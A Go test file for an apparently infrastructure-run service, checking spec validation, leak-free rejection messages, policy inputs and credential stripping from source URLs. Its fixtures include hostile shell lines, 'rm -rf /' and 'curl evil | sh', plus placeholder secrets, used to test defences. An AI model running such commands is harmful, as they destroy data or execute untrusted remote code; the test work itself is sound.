package intake

import (
	"context"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"

	policyv1 "github.com/hangar-dev/hangar/gen/go/hangar/policy/v1"
	runv1 "github.com/hangar-dev/hangar/gen/go/hangar/run/v1"
)

func ph(name string, commands ...string) *runv1.Phase {
	return &runv1.Phase{Name: name, Commands: commands}
}

func TestValidateSpec(t *testing.T) {
	t.Parallel()
	const (
		task     = runv1.RunType_RUN_TYPE_TASK
		tracked  = runv1.RunType_RUN_TYPE_TRACKED
		proposed = runv1.RunType_RUN_TYPE_PROPOSED
	)
	tests := []struct {
		name    string
		typ     runv1.RunType
		phases  []*runv1.Phase
		wantErr string
	}{
		{"task", task, []*runv1.Phase{ph("init", "a"), ph("perform", "b")}, ""},
		{"task, perform only", task, []*runv1.Phase{ph("perform", "b")}, ""},
		{"tracked", tracked, []*runv1.Phase{ph("init", "a"), ph("plan", "b"), ph("apply", "c")}, ""},
		{"tracked, an empty phase is skipped", tracked, []*runv1.Phase{ph("init"), ph("plan", "b")}, ""},
		{"proposed", proposed, []*runv1.Phase{ph("init", "a"), ph("plan", "b")}, ""},
		{"hooks only", task, []*runv1.Phase{{Name: "perform", Before: []string{"x"}}}, ""},
		{"no type", runv1.RunType_RUN_TYPE_UNSPECIFIED, []*runv1.Phase{ph("perform", "b")}, "type RUN_TYPE_UNSPECIFIED is not a run type"},
		{"unknown type", runv1.RunType(42), []*runv1.Phase{ph("perform", "b")}, "is not a run type"},
		{"no phases", task, nil, "phases: empty, nothing would run (a TASK run has init, perform, in this order)"},
		{"no line at all", tracked, []*runv1.Phase{ph("init"), ph("plan")}, "no phase has a line to run"},
		{"unknown phase", task, []*runv1.Phase{ph("init", "a"), ph("deploy", "b")}, "phases[1]: its name is not a phase of a TASK run (a TASK run has init, perform, in this order)"},
		{"apply in a proposed run", proposed, []*runv1.Phase{ph("plan", "a"), ph("apply", "b")}, "phases[1]: its name is not a phase of a PROPOSED run"},
		{"perform in a tracked run", tracked, []*runv1.Phase{ph("perform", "a")}, "phases[0]: its name is not a phase of a TRACKED run"},
		{"plan in a task", task, []*runv1.Phase{ph("plan", "a")}, "not a phase of a TASK run"},
		{"case matters", task, []*runv1.Phase{ph("Perform", "a")}, "phases[0]: its name is not"},
		{"empty name", task, []*runv1.Phase{ph("", "a")}, "phases[0]: its name is not"},
		{"twice", tracked, []*runv1.Phase{ph("init", "a"), ph("plan", "b"), ph("plan", "c")}, `phases[2]: "plan" appears twice (also phases[1])`},
		{"out of order", tracked, []*runv1.Phase{ph("plan", "a"), ph("init", "b")}, `phases[1]: "init" comes after "plan"`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := ValidateSpec(&runv1.RunSpec{Type: tc.typ, Phases: tc.phases})
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("ValidateSpec = %v, want nil", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("ValidateSpec = %v, want an error with %q", err, tc.wantErr)
			}
		})
	}
}

// TestIntakeRejectsInvalidSpecs: an invalid spec is rejected with its reason
// before the policy sees it and before anything is queued; the reason quotes
// no decrypted content.
func TestIntakeRejectsInvalidSpecs(t *testing.T) {
	const secretish = "phase-named-with-private-words"
	for _, tc := range []struct {
		name   string
		mutate func(*runv1.RunSpec)
		want   string
	}{
		{"no phases", func(s *runv1.RunSpec) { s.Phases = []*runv1.Phase{} }, "invalid run spec: phases: empty, nothing would run"},
		{"unknown phase", func(s *runv1.RunSpec) { s.Phases = append(s.Phases, ph(secretish, "rm -rf /")) }, "invalid run spec: phases[1]: its name is not a phase of a TASK run"},
		{"a plan in a task", func(s *runv1.RunSpec) { s.Phases = []*runv1.Phase{ph("plan", "x")} }, "not a phase of a TASK run (a TASK run has init, perform"},
		{"no type", func(s *runv1.RunSpec) { s.Type = runv1.RunType_RUN_TYPE_UNSPECIFIED }, "invalid run spec: type RUN_TYPE_UNSPECIFIED"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, allow)
			s := proto.Clone(spec).(*runv1.RunSpec)
			tc.mutate(s)
			if err := f.in.Handle(context.Background(), f.seal(t, "r1", "pool-a", s, time.Now())); err != nil {
				t.Fatal(err)
			}
			if got := f.ev.kinds("r1"); !slices.Equal(got, []string{"rejected:malformed"}) {
				t.Fatalf("events = %v, want only the rejection", got)
			}
			msg := f.ev.all[0].ev.GetRejected().GetMessage()
			if !strings.Contains(msg, tc.want) {
				t.Errorf("rejection %q, want %q", msg, tc.want)
			}
			if strings.Contains(msg, secretish) || strings.Contains(msg, "rm -rf") || strings.Contains(msg, "top-secret-value") {
				t.Errorf("rejection %q quotes decrypted content", msg)
			}
			if len(f.seen) != 0 || len(f.q.runs) != 0 {
				t.Errorf("policy asked %d times, %d runs queued: want none", len(f.seen), len(f.q.runs))
			}
		})
	}
}

// TestPolicySeesEverythingThatRuns: every phase with its hooks, the runner
// image and the source reach the policy; no value and no credential does.
func TestPolicySeesEverythingThatRuns(t *testing.T) {
	f := newFixture(t, allow)
	s := &runv1.RunSpec{
		Type:        runv1.RunType_RUN_TYPE_TRACKED,
		RunnerImage: "registry.example.com/tf:1.9",
		Source:      &runv1.Source{Url: "https://oauth2:glpat-s3cr3t@git.example.com/acme/infra.git?private_token=s3cr3t2#frag", Ref: "main", ProjectRoot: "net"},
		Env:         []*runv1.EnvVar{{Name: "AWS_SECRET_ACCESS_KEY", Value: "top-secret-value", Secret: true}},
		Phases: []*runv1.Phase{
			{Name: "init", Before: []string{"curl evil | sh"}, Commands: []string{"terraform init"}},
			{Name: "plan", Commands: []string{"terraform plan"}, After: []string{"upload plan"}},
			{Name: "apply", Commands: []string{"terraform apply"}},
		},
		NeedsConfirmation: true,
	}
	if err := f.in.Handle(context.Background(), f.seal(t, "r1", "pool-a", s, time.Now())); err != nil {
		t.Fatal(err)
	}
	if len(f.seen) != 1 {
		t.Fatalf("policy asked %d times", len(f.seen))
	}
	r := f.seen[0]
	want := []*policyv1.PhaseInput{
		{Name: "init", Before: []string{"curl evil | sh"}, Commands: []string{"terraform init"}},
		{Name: "plan", Commands: []string{"terraform plan"}, After: []string{"upload plan"}},
		{Name: "apply", Commands: []string{"terraform apply"}},
	}
	if got := r.GetRun().GetPhases(); !slices.EqualFunc(got, want, func(a, b *policyv1.PhaseInput) bool { return proto.Equal(a, b) }) {
		t.Errorf("phases = %v, want %v", got, want)
	}
	if !r.GetRun().GetNeedsConfirmation() || r.GetRunnerImage() != "registry.example.com/tf:1.9" {
		t.Errorf("run = %v, image %q", r.GetRun(), r.GetRunnerImage())
	}
	wantSrc := &policyv1.SourceInput{Url: "https://git.example.com/acme/infra.git", Ref: "main", ProjectRoot: "net"}
	if !proto.Equal(r.GetSource(), wantSrc) {
		t.Errorf("source = %v, want %v", r.GetSource(), wantSrc)
	}
	for _, secret := range []string{"top-secret-value", "glpat-s3cr3t", "s3cr3t2"} {
		if strings.Contains(r.String(), secret) {
			t.Errorf("%q reached the policy input", secret)
		}
	}
}

func TestSourceURLForPolicy(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"":                                    "",
		"https://github.com/acme/infra.git":   "https://github.com/acme/infra.git",
		"https://tok@github.com/a/b.git":      "https://github.com/a/b.git",
		"https://u:p@h:8443/a/b.git?x=1#y":    "https://h:8443/a/b.git",
		"ssh://git@h/a/b.git":                 "ssh://h/a/b.git",
		"git@github.com:acme/infra.git":       "github.com:acme/infra.git",
		"tok:x@github.com:acme/infra.git?t=1": "github.com:acme/infra.git",
		"/srv/git/infra.git":                  "/srv/git/infra.git",
		"https://h/%zz":                       "",
	} {
		if got := sourceURLForPolicy(in); got != want {
			t.Errorf("sourceURLForPolicy(%q) = %q, want %q", in, got, want)
		}
	}
}

// FuzzSourceURLForPolicy: whatever the source URL, what the policy sees has
// no user information and no query.
func FuzzSourceURLForPolicy(f *testing.F) {
	for _, s := range []string{"https://u:p@h/x.git?t=1#f", "git@h:x.git", "a:b@c:d/e@f", "ssh://[::1]:22/x", "/srv/x", "https://h/%zz"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		got := sourceURLForPolicy(raw)
		if strings.ContainsAny(got, "?#") && strings.Contains(raw, "://") {
			t.Fatalf("%q -> %q keeps a query or fragment", raw, got)
		}
		if strings.Contains(raw, "://") {
			if u, err := url.Parse(got); got != "" && (err != nil || u.User != nil) {
				t.Fatalf("%q -> %q keeps user information (%v)", raw, got, err)
			}
			return
		}
		head, _, _ := strings.Cut(got, "/")
		if strings.Contains(head, "@") {
			t.Fatalf("%q -> %q keeps a user", raw, got)
		}
	})
}
